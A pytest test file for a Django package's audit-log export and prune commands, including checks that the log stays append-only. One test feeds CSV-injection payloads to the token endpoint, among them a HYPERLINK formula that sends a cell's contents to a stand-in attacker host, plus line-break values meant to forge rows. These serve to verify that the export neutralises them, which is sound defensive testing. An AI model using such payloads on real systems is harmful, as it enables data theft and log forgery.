"""``export_audit`` and ``prune_audit`` (SPEC §6, §8), and the append-only guarantee."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from django_agent_obo import audit
from django_agent_obo.management.commands import export_audit
from django_agent_obo.models import AuditEvent
from django_agent_obo.models.audit import AppendOnlyError

FIELDS = {
    "at",
    "event",
    "outcome",
    "user",
    "client_id",
    "actor_id",
    "actor_chain",
    "scope",
    "jti",
    "reason",
    "ip",
}


def at(days_ago: float) -> datetime:
    return timezone.now() - timedelta(days=days_ago)


def seed(user, other_user):
    """Three rows with distinct times, users and actors, recorded out of time order."""
    rows = [
        audit.record("token.issued", user=user, client_id="c1", actor_chain=["agent:a"], scope="s", jti="j2"),
        audit.record(
            "token.refused",
            outcome="failure",
            reason="grant_expired",
            user=other_user,
            actor_chain=["agent:b"],
        ),
        audit.record(
            "consent.granted", user=user, client_id="c1", actor_chain=["agent:b", "agent:a"], ip="192.0.2.1"
        ),
    ]
    for row, days in zip(rows, (2, 1, 3), strict=True):
        set_time(at(days), row.pk)
    return rows


def set_time(moment: datetime, pk: int | None = None) -> None:
    """Move rows in time; the model refuses updates, so this test goes around it in SQL."""
    sql = f"UPDATE {AuditEvent._meta.db_table} SET at = %s" + (" WHERE id = %s" if pk else "")
    value = connection.ops.adapt_datetimefield_value(moment)
    with connection.cursor() as cursor:
        cursor.execute(sql, [value, pk] if pk else [value])


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_audit", *args, stdout=out)
    return out.getvalue()


def test_export_jsonl_is_oldest_first_with_every_field(user, other_user):
    seed(user, other_user)
    lines = [json.loads(line) for line in export().splitlines()]
    assert [r["event"] for r in lines] == ["consent.granted", "token.issued", "token.refused"]
    assert FIELDS <= set(lines[0])
    first = lines[0]
    assert first["user"] == "alice"
    assert first["actor_id"] == "agent:b"
    assert first["actor_chain"] == ["agent:b", "agent:a"]
    assert first["ip"] == "192.0.2.1"
    assert first["at"].endswith("Z")
    assert lines[2]["reason"] == "grant_expired" and lines[2]["outcome"] == "failure"


def test_export_filters_by_since_user_and_agent(user, other_user):
    seed(user, other_user)
    since = (at(2.5)).astimezone(UTC).isoformat()
    assert [json.loads(x)["event"] for x in export("--since", since).splitlines()] == [
        "token.issued",
        "token.refused",
    ]
    assert [json.loads(x)["user"] for x in export("--user", "mallory").splitlines()] == ["mallory"]
    assert [json.loads(x)["event"] for x in export("--agent", "agent:b").splitlines()] == [
        "consent.granted",
        "token.refused",
    ]
    assert export("--user", "alice", "--agent", "agent:a").count("\n") == 1


def test_export_accepts_a_plain_date(user, other_user):
    seed(user, other_user)
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    assert export("--since", tomorrow) == ""


def test_export_csv_has_a_header_and_one_row_per_event(user, other_user):
    seed(user, other_user)
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    assert FIELDS <= set(rows[0])
    assert [r["event"] for r in rows] == ["consent.granted", "token.issued", "token.refused"]
    assert rows[0]["actor_chain"] == "agent:b agent:a"
    assert rows[1]["ip"] == ""


def test_export_csv_neutralises_formulas_that_unauthenticated_requests_wrote():
    """A token request that authenticates nothing is recorded with the client id and scope it
    claimed; opened in a spreadsheet, a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
    carriage return would run as a formula (OWASP "CSV injection")."""
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    for value in hostile:
        Client().post("/o/token/", {"grant_type": "client_credentials", "client_id": value, "scope": value})
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"), newline="")))
    assert len(rows) == len(hostile)
    for row in rows:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    assert sorted(row["client_id"] for row in rows) == sorted("'" + value for value in hostile)
    assert sorted(row["scope"] for row in rows) == sorted("'" + value for value in hostile)
    exact = sorted(json.loads(line)["client_id"] for line in export().splitlines())
    assert exact == sorted(hostile)  # JSON Lines keep the exact values


def test_export_csv_keeps_a_line_break_inside_its_cell():
    """A claimed client id or scope with a line break (no comma, so nothing else asks for
    quotes) must stay in its cell, not split the row into a second, forged one."""
    client_id, scope = "x\n2020-01-01T00:00:00Z", "calendar.read\rgrant.revoked"
    Client().post("/o/token/", {"grant_type": "client_credentials", "client_id": client_id, "scope": scope})
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"), newline="")))
    assert [(row["event"], row["client_id"], row["scope"]) for row in rows] == [
        ("token.refused", client_id, scope)
    ]


def test_export_keeps_a_deleted_users_rows_by_username(user, other_user):
    seed(user, other_user)
    other_user.delete()
    assert [json.loads(x)["user"] for x in export("--user", "mallory").splitlines()] == ["mallory"]


@pytest.mark.parametrize(
    "args",
    [("--since", "yesterday"), ("--since", "2024-13-40"), ("--user", "nobody"), ("--agent", "agent:nobody")],
)
def test_export_rejects_bad_input(args, user, other_user):
    seed(user, other_user)
    with pytest.raises(CommandError):
        export(*args)


def test_export_rejects_an_unknown_format():
    with pytest.raises(CommandError):
        export("--format", "xml")


def test_export_reads_in_bounded_pages(user, monkeypatch):
    """Memory stays flat: no query ever reads more than one page of rows."""
    for _ in range(25):
        audit.record("token.issued", user=user)
    monkeypatch.setattr(export_audit, "PAGE_SIZE", 10)
    with CaptureQueriesContext(connection) as queries:
        lines = export().splitlines()
    assert len(lines) == 25
    assert len({json.loads(x)["at"] + x for x in lines}) == 25
    reads = [q["sql"] for q in queries.captured_queries if "agent_obo_auditevent" in q["sql"].lower()]
    assert len(reads) == 3
    assert all("LIMIT 10" in sql for sql in reads)


def test_export_page_boundary_with_identical_times_loses_nothing(user, monkeypatch):
    rows = [audit.record("token.issued", user=user, jti=f"j{i}") for i in range(7)]
    set_time(timezone.now())
    monkeypatch.setattr(export_audit, "PAGE_SIZE", 3)
    assert [json.loads(x)["jti"] for x in export().splitlines()] == [r.jti for r in rows]


def test_prune_deletes_only_older_rows_and_prints_the_count(user, other_user):
    seed(user, other_user)
    out = io.StringIO()
    call_command("prune_audit", "--older-than", "2", stdout=out)
    assert "Deleted 2 audit event(s)" in out.getvalue()
    assert list(AuditEvent.objects.values_list("event", flat=True)) == ["token.refused"]


def test_prune_dry_run_deletes_nothing(user, other_user):
    seed(user, other_user)
    out = io.StringIO()
    call_command("prune_audit", "--older-than", "1", "--dry-run", stdout=out)
    assert out.getvalue().startswith("3 audit event(s)")
    assert AuditEvent.objects.count() == 3


@pytest.mark.parametrize("days", ["0", "-5", "soon"])
def test_prune_refuses_a_non_positive_age(days, user, other_user):
    seed(user, other_user)
    with pytest.raises(CommandError):
        call_command("prune_audit", "--older-than", days)
    assert AuditEvent.objects.count() == 3


def test_prune_requires_an_age():
    with pytest.raises(CommandError):
        call_command("prune_audit")


def test_audit_rows_cannot_be_changed_or_deleted_by_code(user):
    row = audit.record("token.issued", user=user)
    row.reason = "edited"
    with pytest.raises(AppendOnlyError):
        row.save()
    with pytest.raises(AppendOnlyError):
        row.delete()
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.filter(pk=row.pk).update(reason="edited")
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.filter(pk=row.pk).delete()
    assert AuditEvent.objects.get(pk=row.pk).reason == ""


def test_a_failure_without_reason_is_refused():
    with pytest.raises(ValueError):
        audit.record("token.refused", outcome="failure")
